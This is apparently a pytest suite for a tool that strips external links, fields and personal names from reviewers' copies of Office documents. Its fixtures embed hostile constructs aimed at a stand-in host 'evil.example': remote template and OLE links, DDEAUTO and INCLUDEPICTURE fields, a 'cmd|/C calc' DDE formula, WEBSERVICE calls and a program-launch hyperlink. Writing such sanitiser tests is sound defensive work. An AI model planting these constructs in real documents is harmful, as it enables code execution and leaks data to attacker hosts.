"""Reviewers' copies of office documents: what they show stays, and nobody's name and no address of any kind is left in them."""

import io
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest
from PIL import Image

from accreditation.documents import inspect
from accreditation.documents.refusal import Refused
from tests.documents import offices, pictures
from tests.documents.reading import Read, read

EVIL = "evil.example"
NAME = "Ms Wilhelmina Brackett"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_A = "http://schemas.openxmlformats.org/drawingml/2006/main"
_W_FIELD = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'


def parts_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def changed(
    content: bytes, changes: Mapping[str, tuple[str, str]], extra: offices.Parts | None = None
) -> bytes:
    """The document with words of its parts replaced, and with more parts."""
    parts = parts_of(content)
    for name, (words, other) in changes.items():
        assert words.encode() in parts[name], name
        parts[name] = parts[name].replace(words.encode(), other.encode(), 1)
    return offices.zipped({**parts, **(extra or {})})


def copied(document: Read) -> dict[str, bytes]:
    """The parts of its copy, which was held against it and against what must be nowhere in it."""
    copy = document.copy()
    parts = parts_of(copy)
    for name, content in parts.items():
        whole = content + content.replace(b"\0", b"")
        for words in (EVIL, "External", "DDE", "INCLUDE", NAME, "Brackett", offices.AUTHOR):
            assert words.encode() not in whole, (name, words)
            assert words not in name
    return parts


def field(instruction: str, result: str) -> str:
    return (
        f"{_W_FIELD.format('begin')}<w:r><w:instrText>{instruction}</w:instrText></w:r>"
        f"{_W_FIELD.format('separate')}<w:r><w:t>{result}</w:t></w:r>{_W_FIELD.format('end')}"
    )


LINKS = f"""<?xml version="1.0"?><q:Relationships xmlns:q="http://schemas.openxmlformats.org/package/2006/relationships">
<q:Relationship Id="rId1" Type="{_R}/image" Target="http://{EVIL}/a.png" TargetMode="External"/>
<q:Relationship Target='http://{EVIL}/b.png'  TargetMode = 'External' Id='rId2'   Type='{_R}/image' />
<q:Relationship Id="rId3" Target="&#104;ttp://{EVIL}/t.dotm" Type="{_R}/attachedTemplate" TargetMode="External"/>
<q:Relationship Id="rId4" Type="{_R}/oleObject" Target="file:///\\\\{EVIL}\\o.xls" TargetMode="External"/>
<q:Relationship Id="rId5" Type="{_R}/hyperlink" Target="mailto:x@{EVIL}" TargetMode="External"/>
<q:Relationship Id="rId6" Type="{_R}/frame" Target="http://{EVIL}/frame.html" TargetMode="External"/>
<q:Relationship Id="rId7" Type="{_R}/subDocument" Target="\\\\{EVIL}\\part.docx" TargetMode="External"/>
<q:Relationship Id="rId8" Type="{_R}/settings" Target="settings.xml"/>
<q:Relationship Id="rId9" Type="{_R}/webSettings" Target="webSettings.xml"/>
</q:Relationships>"""

FIELDS = "".join(
    (
        field(f'INCLUDEPICTURE "http://{EVIL}/p.png" \\d', "picture "),
        field(f"  includetext \\\\{EVIL}\\x.docx", "text "),
        field('DDEAUTO excel "sheet" r1c1', "seven "),
        field(f'HYPERLINK "http://{EVIL}/"', "link "),
        field("PAGE \\* MERGEFORMAT", "3 "),
        # An instruction that another field writes.
        f"{_W_FIELD.format('begin')}<w:r><w:instrText> IF 1 = 1 </w:instrText></w:r>{field('DDE a b', 'hidden')}",
        f"{_W_FIELD.format('separate')}<w:r><w:t>chosen </w:t></w:r>{_W_FIELD.format('end')}",
    )
)

BODY = f"""</w:p>
<w:p xmlns:r="{_R}" xmlns:a="{_A}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">
<w:r><w:drawing><a:blip r:link="rId1"/></w:drawing></w:r>
<w:r><w:pict><v:shape href="http://{EVIL}/h"><v:imagedata r:id="rId2" o:href="http://{EVIL}/c.png" src="//{EVIL}/d"/></v:shape></w:pict></w:r>
<w:r><w:object><o:OLEObject Type="Link" r:id="rId4"><o:FieldCodes>\\f 0 DDE</o:FieldCodes></o:OLEObject></w:object></w:r>
<w:hyperlink r:id="rId5"><w:r><w:t>the policy </w:t></w:r></w:hyperlink><w:subDoc r:id="rId7"/>
{FIELDS}
<w:fldSimple w:instr="INCLUDEPICTURE http://{EVIL}/s.png"><w:r><w:t>simple</w:t></w:r></w:fldSimple>"""


def test_a_copy_of_a_word_document_has_no_address_to_go_to(tmp_path: Path) -> None:
    content = changed(
        offices.word(["Ward report"]),
        {"word/document.xml": ("</w:p>", BODY + "</w:p>")},
        {
            "word/_rels/document.xml.rels": LINKS,
            "word/_rels/settings.xml.rels": LINKS,
            "word/_rels/webSettings.xml.rels": LINKS,
            "word/webSettings.xml": "<w:webSettings xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'/>",
            "word/settings.xml": "<w:settings xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'"
            f" xmlns:r='{_R}'><w:attachedTemplate r:id='rId3'/><w:zoom w:percent='100'/>"
            f"<w:mailMerge><w:connectString w:val='http://{EVIL}'/></w:mailMerge></w:settings>",
        },
    )
    document = read(tmp_path, content, "Plan.docx")
    assert EVIL in document.all_words
    parts = copied(document)
    assert set(parts) == {
        "[Content_Types].xml",
        "_rels/.rels",
        "word/document.xml",
        "word/_rels/document.xml.rels",
        "word/settings.xml",
        "word/_rels/settings.xml.rels",
    }
    copy = read(tmp_path, document.copy(), "Plan.docx")
    shown = "the policy picture text seven link  PAGE \\* MERGEFORMAT3 chosen simple"
    assert "".join(copy.texts[0].split()) == "".join(f"Ward report{shown}".split())
    assert copy.copy() == document.copy()


FORMULAS = {
    "A1": "SUM(B1:C1)",
    "A2": "[1]Other!$A$1",
    "A3": "cmd|&apos;/C calc&apos;!A0",
    "A4": f'WEBSERVICE("http://{EVIL}/x")',
    "A5": f'_xlfn.IMAGE("https://{EVIL}/x.png")',
    "A6": "RTD(&quot;x&quot;,,&quot;y&quot;)",
    "A7": f"&apos;C:\\Users\\{NAME}\\[b.xlsx]S&apos;!A1",
}


BOOK_LINKS = offices.links(
    rId1=("worksheet", "worksheets/sheet1.xml"),
    rId50=("externalLink", "externalLinks/externalLink1.xml"),
    rId51=("connections", "connections.xml"),
    rId52=("usernames", "revisions/userNames.xml"),
    rId98=("sharedStrings", "sharedStrings.xml"),
)
SHEET_LINKS = offices.links(
    rId1=("hyperlink", f"http://{EVIL}/"),
    rId2=("printerSettings", "../printerSettings/printerSettings1.bin"),
    rId3=("pivotTable", "../pivotTables/pivotTable1.xml"),
)


def test_a_copy_of_a_workbook_reckons_with_its_own_cells_alone(tmp_path: Path) -> None:
    cells = "".join(
        f'<row><c r="{place}"><f>{formula}</f><v>7</v></c></row>' for place, formula in FORMULAS.items()
    )
    content = changed(
        offices.excel({"Ward": [["Jo"]]}),
        {
            "xl/workbook.xml": (
                "</sheets>",
                (
                    f"</sheets><externalReferences><externalReference r:id='rId50'/></externalReferences><definedNames>"
                    f"<definedName name='Out'>[1]S!A1</definedName></definedNames><fileSharing userName='{NAME}'/>"
                ),
            ),
            "xl/worksheets/sheet1.xml": (
                "</sheetData>",
                f"{cells}</sheetData><hyperlinks><hyperlink ref='A1' r:id='rId1'/></hyperlinks><pageSetup r:id='rId2'/>",
            ),
        },
        {
            "xl/_rels/workbook.xml.rels": BOOK_LINKS,
            "xl/worksheets/_rels/sheet1.xml.rels": SHEET_LINKS,
            "xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>",
            "xl/connections.xml": f"<connections><connection sourceFile='C:\\Users\\Brackett\\{EVIL}'/></connections>",
            "xl/revisions/userNames.xml": f"<users><userInfo name='{NAME}'/></users>",
            "xl/printerSettings/printerSettings1.bin": f"\\\\{EVIL}\\printer".encode("utf-16-le"),
            "xl/pivotTables/pivotTable1.xml": f"<pivotTableDefinition refreshedBy='{NAME}'/>",
        },
    )
    document = read(tmp_path, content, "Scores.xlsx")
    parts = copied(document)
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert sheet.count(b"<f>") == 1
    assert b"<f>SUM(B1:C1)</f>" in sheet
    assert b"hyperlink" not in sheet
    assert b"definedName" not in parts["xl/workbook.xml"]
    assert read(tmp_path, document.copy(), "Scores.xlsx").texts == ["Jo\n7\n7\n7\n7\n7\n7\n7"]


def test_a_copy_of_a_presentation_fetches_and_plays_nothing(tmp_path: Path) -> None:
    shapes = (
        "<p:pic><p:nvPicPr><p:nvPr><a:videoFile r:link='rId8'/></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:link='rId7'/>"
        f"</p:blipFill></p:pic><p:sp><p:cNvPr name='C:\\Users\\Brackett\\a.png' descr='http://{EVIL}/x Ward'>"
        "<a:hlinkClick r:id='rId6' action='ppaction://program'/></p:cNvPr></p:sp><p:sp><p:cNvPr name='next'>"
        "<a:hlinkClick r:id='' action='ppaction://hlinkshowjump?jump=nextslide'/></p:cNvPr></p:sp></p:spTree>"
    )
    content = changed(
        offices.powerpoint([["Welcome"], ["Results"]], notes={1: "Say why"}, hidden=[2]),
        {
            "ppt/slides/slide1.xml": ("</p:spTree>", shapes),
            "ppt/_rels/presentation.xml.rels": (
                "</Relationships>",
                (
                    f"<Relationship Id='rId70' Type='http://schemas.microsoft.com/office/2016/11/relationships/changesInfo'"
                    f" Target='changesInfos/changesInfo1.xml'/><Relationship Id='rId71' Type='{_R}/commentAuthors'"
                    " Target='commentAuthors.xml'/></Relationships>"
                ),
            ),
            "ppt/slides/_rels/slide1.xml.rels": (
                "</Relationships>",
                (
                    f"<Relationship Id='rId6' Type='{_R}/hyperlink' Target='C:\\{EVIL}\\a.exe' TargetMode='External'/>"
                    f"<Relationship Id='rId7' Type='{_R}/image' Target='http://{EVIL}/a.png' TargetMode='External'/>"
                    f"<Relationship Id='rId8' Type='{_R}/video' Target='../media/film.mp4'/></Relationships>"
                ),
            ),
        },
        {
            "ppt/changesInfos/changesInfo1.xml": f"<chgInfo><chgData name='{NAME}' userId='x'/></chgInfo>",
            "ppt/commentAuthors.xml": "<p:cmAuthorLst xmlns:p='http://schemas.openxmlformats.org/presentationml/2006/main'>"
            f"<p:cmAuthor id='0' name='{NAME}' initials='WB'/></p:cmAuthorLst>",
            "ppt/media/film.mp4": f"made by {NAME}".encode(),
        },
    )
    document = read(tmp_path, content, "Talk.pptx")
    parts = copied(document)
    assert b'name="Author" initials="A"' in parts["ppt/commentAuthors.xml"]
    assert b'action="ppaction://hlinkshowjump?jump=nextslide"' in parts["ppt/slides/slide1.xml"]
    assert b'descr=" Ward"' in parts["ppt/slides/slide1.xml"]
    assert not any("film" in name or "media" in name for name in parts)
    assert read(tmp_path, document.copy(), "Talk.pptx").labels == document.labels


@pytest.mark.parametrize(
    "properties", ["package/services/metadata/core-properties/0a1b.psmdcp", "docProps/core0.xml"]
)
def test_properties_are_known_by_what_leads_to_them_and_not_by_their_names(
    tmp_path: Path, properties: str
) -> None:
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    root = (
        f"<Relationships xmlns='{package}'><Relationship Id='a' Type='{_R}/officeDocument' Target='/word/document.xml'/>"
        f"<Relationship Id='b' Type='{package}/metadata/core-properties' Target='/{properties}'/>"
        f"<Relationship Id='c' Type='{_R}/extended-properties' Target='docProps/app0.xml'/>"
        f"<Relationship Id='d' Type='{package}/metadata/thumbnail' Target='docProps/thumbnail.jpeg'/>"
        f"<Relationship Id='e' Type='{package}/digital-signature/origin' Target='_xmlsignatures/origin.sigs'/>"
        "</Relationships>"
    )
    picture = io.BytesIO()
    Image.new("P", (9, 9)).save(picture, "GIF", comment=NAME.encode())
    content = changed(
        offices.word(
            [f"Seen by {NAME}"[:4], "Report"],
            comment="Ask why",
            extra={
                "_rels/.rels": root,
                properties: f"<p><dc:creator xmlns:dc='http://purl.org/dc/elements/1.1/'>{NAME}</dc:creator></p>",
                "docProps/app0.xml": "<Properties><Manager>Wilhelmina Brackett</Manager></Properties>",
                "docProps/thumbnail.jpeg": pictures.picture(),
                "_xmlsignatures/sig1.xml": f"<Signature><X509>{NAME}</X509></Signature>",
                "word/media/Brackett.jpg": pictures.picture(),
                "word/media/b.gif": picture.getvalue(),
            },
        ),
        {
            "word/_rels/document.xml.rels": (
                "</Relationships>",
                (
                    f"<Relationship Id='rId8' Type='{_R}/image' Target='media/Brackett.jpg'/>"
                    f"<Relationship Id='rId9' Type='{_R}/image' Target='media/b.gif'/></Relationships>"
                ),
            ),
            "word/document.xml": ("<w:p>", f"<w:p w:rsidR='00A1'><w:bookmarkStart w:name='by {NAME}'/>"),
        },
    )
    document = read(tmp_path, content, "Plan.docx")
    parts = copied(document)
    assert [name for name in parts if "media" in name] == ["word/media/image1.jpeg", "word/media/image2.gif"]
    assert pictures.PLACE.encode() not in parts["word/media/image1.jpeg"]
    assert b"rsid" not in parts["word/document.xml"]


def test_documents_inside_are_copied_in_the_same_way(tmp_path: Path) -> None:
    inner = offices.excel({"S": [["inside"]]}, comments={"A1": f"{offices.AUTHOR}: why"})
    content = changed(
        offices.word(extra={"word/embeddings/Brackett.xlsx": inner}),
        {
            "word/_rels/document.xml.rels": (
                "</Relationships>",
                f"<Relationship Id='rId8' Type='{_R}/package' Target='embeddings/Brackett.xlsx'/></Relationships>",
            )
        },
    )
    parts = copied(read(tmp_path, content, "Plan.docx"))
    inside = parts_of(parts["word/embeddings/document1.xlsx"])
    assert not any(offices.AUTHOR.encode() in part for part in inside.values())
    assert b"inside" in inside["xl/sharedStrings.xml"]
    # Its program writes the name before the words of a comment.
    assert b"<t>Author: why</t>" in inside["xl/comments1.xml"]


def test_parts_of_two_bytes_a_letter_are_copied(tmp_path: Path) -> None:
    parts: dict[str, str | bytes] = {
        name: content.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
        for name, content in parts_of(offices.excel({"Ward": [["Naïve", 4]]}, comments={"A1": "c"})).items()
    }
    document = read(tmp_path, offices.zipped(parts), "Scores.xlsx")
    copied(document)
    assert read(tmp_path, document.copy(), "Scores.xlsx").texts == document.texts


def test_a_copy_that_would_show_other_words_is_none(tmp_path: Path) -> None:
    content = changed(
        offices.word(["Report"]),
        {
            "word/document.xml": (
                "</w:p>",
                "<n:t xmlns:n='http://nobody.example/'>of nobody's vocabulary</n:t></w:p>",
            )
        },
    )
    document = read(tmp_path, content, "Plan.docx")
    with pytest.raises(Refused):
        inspect.stripped(document.path, document.inspection, tmp_path)


def test_a_name_that_is_left_in_a_picture_means_no_copy(tmp_path: Path) -> None:
    content = changed(
        offices.word(
            extra={
                "docProps/core.xml": f"<p><creator>{NAME}</creator></p>",
                "word/media/a.bmp": b"BM" + NAME.encode(),
            }
        ),
        {
            "_rels/.rels": (
                "</Relationships>",
                f"<Relationship Id='b' Type='{_R}/core-properties' Target='docProps/core.xml'/></Relationships>",
            ),
            "word/_rels/document.xml.rels": (
                "</Relationships>",
                f"<Relationship Id='rId8' Type='{_R}/image' Target='media/a.bmp'/></Relationships>",
            ),
        },
    )
    document = read(tmp_path, content, "Plan.docx")
    with pytest.raises(Refused):
        inspect.stripped(document.path, document.inspection, tmp_path)
